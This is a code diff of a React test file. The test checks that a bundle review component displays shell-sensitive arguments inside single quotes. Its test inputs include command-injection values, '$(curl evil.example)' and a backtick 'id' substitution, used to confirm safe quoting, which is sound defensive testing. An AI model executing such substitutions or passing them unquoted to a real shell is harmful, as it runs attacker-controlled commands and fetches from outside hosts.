@@ -21,7 +21,9 @@ afterEach(cleanup);
 
 describe('BundleReviewFacts', () => {
   it('shows each argument a shell would split or expand in single quotes, as the import and install reviews do', () => {
-    render(<BundleReviewFacts review={review(['server/index.js', '$(curl evil.example)', 'a b', '`id`', 'C:\\x', ''])} />);
+    render(
+      <BundleReviewFacts review={review(['server/index.js', '$(curl evil.example)', 'a b', '`id`', 'C:\\x', ''])} />,
+    );
     const line = document.querySelector('.import-command-line')?.textContent;
     expect(line).toBe("node server/index.js '$(curl evil.example)' 'a b' '`id`' 'C:\\x' ''");
     expect(screen.getByText('/usr/bin/node')).toBeTruthy();
